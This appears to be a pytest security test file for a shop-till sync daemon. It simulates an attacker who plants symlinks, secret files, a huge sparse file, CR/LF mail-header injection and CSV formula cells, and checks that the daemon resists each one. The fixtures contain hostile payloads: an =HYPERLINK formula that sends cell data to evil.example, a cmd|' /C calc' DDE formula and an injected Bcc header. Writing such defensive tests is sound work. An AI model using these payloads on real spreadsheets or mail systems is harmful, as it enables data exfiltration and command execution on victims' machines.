"""Issue 22, the files and mails side, as an attacker on the shop's network would try it: whoever
can write the till's drop folder (the till, a share) plants links, secrets, huge files and
formula cells; a product name carries CR/LF. Each attack runs against `syncd run` as a
subprocess with a csv_till channel, its status page and a real SMTP server (aiosmtpd)."""

from __future__ import annotations

import json
import os
import subprocess
import time
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from syncd.config import load_config
from syncd.domain import Document, DocumentKind
from syncd.ledger import Product, open_store
from syncd.testing.harness import SYNCD, DaemonProcess, free_port, until
from syncd.testing.harness import write_config as write_toml
from syncd.testing.smtp import SmtpServer
from tests.e2e.test_daemon_process import HEADER

REGISTERED = "whsec-registered-9f8e7d6c5b4a"  # a secret the daemon knows (a webhook secret)
UNKNOWN_SECRET = "sk_live_0123456789abcdefSECRET"  # a credential file's one line
ORIGINAL = "precious: must never be overwritten by syncd\n"


def row(receipt: str, sku: str, qty: str, name: str = "Shirt") -> str:
    return (
        f"7/28/26 1:33 PM,{receipt},Sale,Shirts,{sku},{name},,,{qty},20.00,0.00,20.00,8.00,"
        "12.00,0.00,POS 1,Shop,Ann,,,,Closed\n"
    )


class Daemon:
    """`syncd run` on a SQLite ledger, the status page on a free port, alerts to ``smtp``."""

    def __init__(self, tmp: Path, smtp: SmtpServer) -> None:
        self.tmp, self.smtp = tmp, smtp
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.inbox = tmp / "till" / "inbox"
        self.rejected = self.inbox / "rejected"
        self.done = self.inbox / "done"
        self.outside = tmp / "outside"  # what the attacker's links point at
        self.outside.mkdir()
        self.inbox.mkdir(parents=True)
        self.config = tmp / "syncd.toml"
        self.process = DaemonProcess(self.config, cwd=tmp)
        self.till_options: dict[str, Any] = {}

    @property
    def proc(self) -> subprocess.Popen[bytes] | None:
        return self.process.proc

    def write_config(self) -> None:
        write_toml(
            self.config,
            {
                "ledger": {"backend": "sqlite", "path": "ledger.sqlite3"},
                "log": {"level": "info", "format": "json"},
                "sync": {"grace_seconds": 1, "outbox_poll_seconds": 1, "retry_max_seconds": 2},
                "web": {"enabled": True, "host": "127.0.0.1", "port": self.port, "language": "en"},
                "alerts": {
                    "to": ["shop@example.com"],
                    "from": "syncd@example.com",
                    "smtp_host": "127.0.0.1",
                    "smtp_port": self.smtp.port,
                    "smtp_security": "none",
                    "language": "en",
                    "group_window_seconds": 1,
                    "poll_seconds": 0.2,
                    "retry_max_seconds": 2,
                    "digest_time": "",
                },
                "channels": {
                    "till": {
                        "type": "csv_till",
                        "drop_folder": "till/inbox",
                        "stock_file": "till/out/stock.csv",
                        "settle_seconds": 0.2,
                        "poll_seconds": 0.5,
                        "stock_min_interval_seconds": 0.1,
                        "webhook_secret": REGISTERED,
                        **self.till_options,
                    }
                },
            },
        )

    async def onboard(self, products: dict[str, tuple[str, int]]) -> None:
        """Products (name, on hand) in the ledger before the daemon starts (a catalogue import)."""
        self.write_config()
        store = await open_store(load_config(self.config).ledger)
        try:
            await store.upsert_products([Product(s, n) for s, (n, _) in products.items()])
            await store.apply_document(
                Document(
                    "init",
                    "opening",
                    DocumentKind.STOCK_COUNT,
                    {s: q for s, (_, q) in products.items()},
                    datetime.now(UTC),
                )
            )
        finally:
            await store.close()

    async def start(self) -> None:
        self.write_config()
        self.process.start()

        async def up() -> bool:
            assert self.proc is not None and self.proc.poll() is None, self.log_text()[-3000:]
            try:
                overview = await self.api("overview")
            except aiohttp.ClientError:
                return False
            return any(c["state"] != "starting" for c in overview["channels"])

        await until(up, 30)

    def stop(self) -> None:
        if self.process.running:
            self.process.stop()

    def log_text(self) -> str:
        return self.process.log()

    def drop(self, name: str, content: str | bytes) -> Path:
        data = content.encode("utf-8") if isinstance(content, str) else content
        staging = self.tmp / "till" / f".staging-{name}"
        staging.write_bytes(data)
        os.replace(staging, self.inbox / name)
        return self.inbox / name

    async def get(self, path: str) -> str:
        async with (
            aiohttp.ClientSession() as http,
            http.get(f"{self.url}{path}", timeout=aiohttp.ClientTimeout(total=10)) as resp,
        ):
            assert resp.status == 200, await resp.text()
            return await resp.text()

    async def api(self, name: str) -> Any:
        return json.loads(await self.get(f"/api/{name}"))

    def proc_status(self, key: str) -> int:
        """A figure of the daemon's /proc/<pid>/status (kB) or /proc/<pid>/io (bytes)."""
        assert self.proc is not None
        for source in ("status", "io"):
            for line in Path(f"/proc/{self.proc.pid}/{source}").read_text().splitlines():
                name, _, value = line.partition(":")
                if name == key:
                    return int(value.split()[0])
        raise KeyError(key)


@pytest.fixture
def smtp() -> Iterator[SmtpServer]:
    server = SmtpServer(free_port())
    server.start()
    yield server
    server.stop()


@pytest.fixture
async def daemon(tmp_path: Path, smtp: SmtpServer) -> AsyncIterator[Daemon]:
    d = Daemon(tmp_path, smtp)
    yield d
    if d.proc is not None:
        d.stop()


async def where_shown(d: Daemon, secrets: tuple[str, ...]) -> list[str]:
    """Where any of ``secrets`` shows: pages, API, files syncd wrote, mails, the log."""
    outputs = {
        path: await d.get(path)
        for path in ("/api/unknown", "/unknown", "/api/overview", "/api/conflicts", "/conflicts")
    }
    for folder in (d.rejected, d.done):
        if folder.is_dir() and not folder.is_symlink():
            for path in folder.iterdir():
                written = path.name.endswith((".reason.txt", ".rejected.csv"))  # by syncd
                if written and path.is_file() and not path.is_symlink():
                    outputs[path.name] = path.read_text(encoding="utf-8", errors="replace")
    with d.smtp.inbox.lock:
        for i, message in enumerate(d.smtp.inbox.messages):
            outputs[f"mail {i}"] = message.as_string()
    for i, (text, html) in enumerate(zip(d.smtp.inbox.texts(), d.smtp.inbox.htmls(), strict=True)):
        outputs[f"mail {i} body"] = text + html
    outputs["log"] = d.log_text()
    return sorted(
        {f"{where}: {s[:8]}…" for where, text in outputs.items() for s in secrets if s in text}
    )


# -- 1: planted links are never written through -----------------------------------------------


async def test_planted_links_in_rejected_and_the_stock_folder_are_not_written_through(
    daemon: Daemon,
) -> None:
    await daemon.onboard({"SKU-1": ("Shirt", 10)})
    victims = {name: daemon.outside / name for name in ("reason", "rejected", "stock_tmp", "moved")}
    for victim in victims.values():
        victim.write_text(ORIGINAL, encoding="utf-8")
    daemon.rejected.mkdir()
    daemon.done.mkdir()
    (daemon.tmp / "till" / "out").mkdir()
    (daemon.rejected / "bad.csv.reason.txt").symlink_to(victims["reason"])
    (daemon.rejected / "rows.csv.rejected.csv").symlink_to(victims["rejected"])
    (daemon.tmp / "till" / "out" / ".stock.csv.tmp").symlink_to(victims["stock_tmp"])
    (daemon.done / "rows.csv").symlink_to(victims["moved"])
    await daemon.start()

    daemon.drop("bad.csv", "this is not a till export\n")
    daemon.drop("rows.csv", HEADER + row("4-1", "SKU-1", "1") + row("4-1", "SKU-1", "abc"))
    await until(lambda: not (daemon.inbox / "bad.csv").exists())
    await until(lambda: not (daemon.inbox / "rows.csv").exists())
    stock_file = daemon.tmp / "till" / "out" / "stock.csv"
    await until(lambda: stock_file.is_file() and "SKU-1;9" in stock_file.read_text("utf-8"))

    overwritten = [n for n, v in victims.items() if v.read_text(encoding="utf-8") != ORIGINAL]
    assert overwritten == []
    # What syncd meant to write is there, as files of its own
    reason = daemon.rejected / "bad.csv.reason.txt"
    assert not reason.is_symlink() and "till export layout" in reason.read_text(encoding="utf-8")
    assert "abc" in (daemon.rejected / "rows.csv.rejected.csv").read_text(encoding="utf-8")
    assert not stock_file.is_symlink()
    assert daemon.proc is not None and daemon.proc.poll() is None


@pytest.mark.parametrize("folder", ["rejected", "done", "stock", "drop"])
async def test_a_symlinked_folder_is_refused_with_an_error_naming_it(
    daemon: Daemon, folder: str
) -> None:
    await daemon.onboard({"SKU-1": ("Shirt", 10)})
    elsewhere = daemon.outside / "elsewhere"
    elsewhere.mkdir()
    link = {
        "rejected": daemon.rejected,
        "done": daemon.done,
        "stock": daemon.tmp / "till" / "out",
        "drop": daemon.inbox,
    }[folder]
    if folder == "drop":
        link.rmdir()
    link.symlink_to(elsewhere, target_is_directory=True)
    await daemon.start()
    name = "bad.csv" if folder == "rejected" else "good.csv"
    content = "not a till export\n" if folder == "rejected" else HEADER + row("4-1", "SKU-1", "1")
    daemon.drop(name, content)  # with a linked drop folder, it lands in the link's target

    async def error_shown() -> bool:
        overview = await daemon.api("overview")
        errors = " ".join(c["last_error"] for c in overview["channels"])
        return str(link) in errors and "symbolic link" in errors

    await until(error_shown, 20)
    if folder == "drop":  # not read, not moved, no done/ or rejected/ made in the target
        assert sorted(p.name for p in elsewhere.iterdir()) == [name]
        assert (await daemon.api("unknown"))["rejected_rows"] == []
    else:
        assert list(elsewhere.iterdir()) == []  # nothing written or moved through the link
    if folder != "stock":
        assert (daemon.inbox / name).is_file()  # the file waits: nothing lost
    assert daemon.proc is not None and daemon.proc.poll() is None  # no crash loop
    assert "symbolic link" in await daemon.get("/")


# -- 2: planted links are never read, and no secret is shown ---------------------------------


async def test_a_link_to_a_secret_is_quarantined_unread_and_no_secret_is_shown(
    daemon: Daemon,
) -> None:
    await daemon.onboard({"SKU-1": ("Shirt", 10)})
    secret = daemon.outside / "prestashop.key"
    secret.write_text(UNKNOWN_SECRET + "\n", encoding="utf-8")
    await daemon.start()
    (daemon.inbox / "leak.csv").symlink_to(secret)
    # A plain file whose first line is a secret the daemon knows (a misplaced credential file).
    daemon.drop("known.csv", REGISTERED + "\n")

    await until(lambda: not os.path.lexists(daemon.inbox / "leak.csv"))
    await until(lambda: not (daemon.inbox / "known.csv").exists())
    await until(lambda: len(daemon.smtp.inbox.messages) >= 1, 20)
    await until(lambda: "known.csv" in " ".join(daemon.smtp.inbox.texts()), 20)

    places = await where_shown(daemon, (UNKNOWN_SECRET, REGISTERED))
    assert places == [], "; ".join(places)
    reason = (daemon.rejected / "leak.csv.reason.txt").read_text(encoding="utf-8")
    assert "symbolic link" in reason and "not read" in reason
    assert secret.read_text(encoding="utf-8") == UNKNOWN_SECRET + "\n"
    rejected = (await daemon.api("unknown"))["rejected_rows"]
    assert {r["source"] for r in rejected} >= {"leak.csv", "known.csv"}


# -- 5: a CR/LF product name does not stop the mails ------------------------------------------


async def test_a_crlf_product_name_lets_this_and_later_mails_go(daemon: Daemon) -> None:
    evil = "Shirt\r\nBcc: victim@evil.example\r\n\r\nInjected body"
    await daemon.onboard({"EVIL": (evil, 1), "GOOD": ("Plain shirt", 1)})
    await daemon.start()
    daemon.drop("evil.csv", HEADER + row("4-1", "EVIL", "2"))
    await until(lambda: not (daemon.inbox / "evil.csv").exists())
    time.sleep(2)  # past the group window: the next oversell is a mail of its own
    daemon.drop("good.csv", HEADER + row("4-2", "GOOD", "2"))

    def subjects() -> list[str]:
        with daemon.smtp.inbox.lock:
            return [str(m["Subject"]) for m in daemon.smtp.inbox.messages]

    await until(lambda: any("GOOD" in s for s in subjects()), 25)
    await until(lambda: any("EVIL" in s for s in subjects()), 10)
    with daemon.smtp.inbox.lock:
        messages = list(daemon.smtp.inbox.messages)
        envelopes = list(daemon.smtp.inbox.envelopes)
    for message in messages:
        assert message["Bcc"] is None
        assert "\r" not in str(message["Subject"]) and "\n" not in str(message["Subject"])
    assert all(rcpts == ["shop@example.com"] for _, rcpts in envelopes)
    assert daemon.proc is not None and daemon.proc.poll() is None


# -- 6: a huge file is quarantined unread -------------------------------------------------------


async def test_a_huge_file_is_quarantined_unread_and_memory_stays_low(daemon: Daemon) -> None:
    await daemon.onboard({"SKU-1": ("Shirt", 10)})
    await daemon.start()
    time.sleep(1)
    peak_before = daemon.proc_status("VmHWM")
    read_before = daemon.proc_status("rchar")
    staging = daemon.tmp / "till" / ".big"
    with open(staging, "wb") as handle:  # sparse: 200 MB on the folder, nothing on the disk
        handle.write(HEADER.encode())
        handle.truncate(200 * 1024 * 1024)
    os.replace(staging, daemon.inbox / "big.csv")
    await until(lambda: not (daemon.inbox / "big.csv").exists(), 60)
    reason = (daemon.rejected / "big.csv.reason.txt").read_text(encoding="utf-8")
    grown_mb = (daemon.proc_status("VmHWM") - peak_before) / 1024
    read_mb = (daemon.proc_status("rchar") - read_before) / 1e6
    seen = f"peak RSS +{grown_mb:.0f} MB, {read_mb:.0f} MB read, reason {reason!r}"
    assert grown_mb < 30 and read_mb < 20, seen
    assert "max_file_mb" in reason and "not read" in reason, seen
    # The channel goes on: the next file is applied
    daemon.drop("next.csv", HEADER + row("4-1", "SKU-1", "1"))
    await until(lambda: (daemon.done / "next.csv").exists())


# -- 8: CSV formula injection ------------------------------------------------------------------


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0")


async def test_rejected_rows_csv_neutralises_formula_cells(daemon: Daemon) -> None:
    await daemon.onboard({"SKU-1": ("Shirt", 10)})
    await daemon.start()
    daemon.drop(
        "=1+2.csv",
        HEADER
        + row("4-1", "SKU-1", f'"{FORMULAS[0].replace(chr(34), chr(34) * 2)}"')
        + row("4-1", FORMULAS[1], "x")
        + row("4-1", "SKU-1", "-2.5")
        + row("4-1", "SKU-1", "+-1"),
    )
    target = daemon.rejected / "=1+2.csv.rejected.csv"
    await until(target.exists)
    import csv

    rows = list(csv.reader(target.read_text(encoding="utf-8").splitlines()))[1:]
    assert len(rows) == 4
    for cells in rows:
        for cell in cells:
            assert not cell.startswith(("=", "@", "+", "\t", "\r")), cells
            assert not (cell.startswith("-") and cell != "-2.5"), cells
    assert rows[0][0] == "'=1+2.csv" and rows[0][3] == "'" + FORMULAS[0]
    assert rows[2][3] == "-2.5"  # a plain number stays readable
    assert rows[3][3] == "'+-1"


async def test_reconcile_report_neutralises_formula_cells_keeps_negative_numbers(
    daemon: Daemon,
) -> None:
    await daemon.onboard({"=SUM(A1:A9)": ("Shirt", 5), "NEG": ("Socks", 2)})
    await daemon.start()
    stock = daemon.tmp / "till" / "out" / "stock.csv"
    await until(lambda: stock.is_file() and "NEG" in stock.read_text(encoding="utf-8"))
    daemon.stop()
    # The till's figures as it would read them back: one a formula SKU, one negative.
    stock.write_text("sku;quantity\r\n=SUM(A1:A9);3\r\nNEG;-4\r\n", encoding="utf-8")
    report = daemon.tmp / "report.csv"
    out = subprocess.run(
        [*SYNCD, "reconcile", "--config", str(daemon.config), "--dry-run", "--report", str(report)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=daemon.tmp,
    )
    assert report.is_file(), out.stdout[-2000:] + out.stderr[-2000:]
    import csv

    rows = {r["sku"]: r for r in csv.DictReader(report.read_text(encoding="utf-8").splitlines())}
    assert set(rows) == {"'=SUM(A1:A9)", "NEG"}, rows
    assert rows["NEG"]["figure"] == "-4"  # a genuine negative number stays a number
    for r in rows.values():
        for value in r.values():
            assert not value.startswith(("=", "@", "+", "\t", "\r")), r
